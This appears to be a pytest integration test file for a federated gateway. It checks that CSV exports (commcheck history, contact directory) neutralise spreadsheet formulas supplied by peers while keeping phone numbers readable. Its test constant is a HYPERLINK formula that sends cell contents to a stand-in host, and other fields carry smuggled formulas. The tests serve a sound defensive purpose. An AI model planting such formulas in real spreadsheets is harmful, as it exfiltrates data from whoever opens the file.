"""Exports carry peer text safely (finding 8): a peer's formula never runs in a
spreadsheet, whichever export and locale, and phone numbers stay readable."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any

import pytest

from gateway.config import update_config
from tests.integration.harness import Federation, wait_until

pytestmark = pytest.mark.broker
EVIL = '=HYPERLINK("http://elsewhere.example/?q="&A1,"details")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_a_peers_formula_in_a_commcheck_confirmation_is_defused(
        federation: Federation) -> None:
    """NL-NCC confirms BE-NCCN's communication test "by" a formula; BE-NCCN's history.csv
    holds it as text."""
    await federation.wait_ready()
    status, started = await federation.api("BE-NCCN", "POST", "/v1/commchecks")
    assert status == 202
    check = started["id"]

    async def arrived() -> bool:
        _, inbox = await federation.api("NL-NCC", "GET", "/v1/inbox?type=commcheck&limit=50")
        return any(i["id"] == check for i in inbox["items"])
    await wait_until(arrived, 20, "the commcheck at NL-NCC")
    status, _ = await federation.api("NL-NCC", "POST", f"/v1/messages/{check}/ack?from=BE-NCCN",
                                     {"by": f"\u00a0{EVIL}"})
    assert status == 200

    async def confirmed() -> bool:
        _, report = await federation.api("BE-NCCN", "GET", f"/v1/commchecks/{check}")
        return any(p["peer"] == "NL-NCC" and p["confirmed_by"] for p in report["peers"])
    await wait_until(confirmed, 20, "NL-NCC's confirmation at BE-NCCN")
    _, text = await federation.api("BE-NCCN", "GET", "/v1/commchecks/history.csv")
    row = next(r for r in _rows(text) if r["check_id"] == check and r["peer"] == "NL-NCC")
    assert row["confirmed_by"].startswith("'")
    assert row["confirmed_by"].endswith(EVIL)


async def test_a_peers_directory_entries_are_defused_but_phones_kept(
        federation: Federation) -> None:
    """LU-HCPN publishes a contact named like a formula (and one split by ';'); BE-NCCN's
    directory.csv shows both as text and keeps the phone number as it is."""
    await federation.wait_ready()
    lu = federation.nodes["LU-HCPN"]
    entries: list[dict[str, Any]] = [
        {"field": "cyber", "name": EVIL, "phone": "+352 000 000", "email": "c@lu.example",
         "languages": ["fr"], "available_24_7": True,
         "confirmed": datetime.now(UTC).date().isoformat()},
        {"field": "public-health", "name": "Desk;=1+1", "role": "\uff1dSUM(A1)",
         "phone": "+352 111 111", "email": "h@lu.example", "languages": ["de"],
         "available_24_7": False, "confirmed": datetime.now(UTC).date().isoformat()}]
    update_config(lu.config, lambda raw: raw.update(directory=entries))

    async def published() -> bool:
        _, text = await federation.api("BE-NCCN", "GET", "/v1/directory.csv")
        return "+352 111 111" in text
    await wait_until(published, 30, "LU-HCPN's directory at BE-NCCN")
    _, text = await federation.api("BE-NCCN", "GET", "/v1/directory.csv")
    rows = [r for r in _rows(text) if r["centre"] == "LU-HCPN"]
    names = {r["name"] for r in rows}
    assert f"'{EVIL}" in names
    assert "Desk;'=1+1" in names
    assert "'\uff1dSUM(A1)" in {r["role"] for r in rows}
    assert {"+352 000 000", "+352 111 111"} <= {r["phone"] for r in rows}
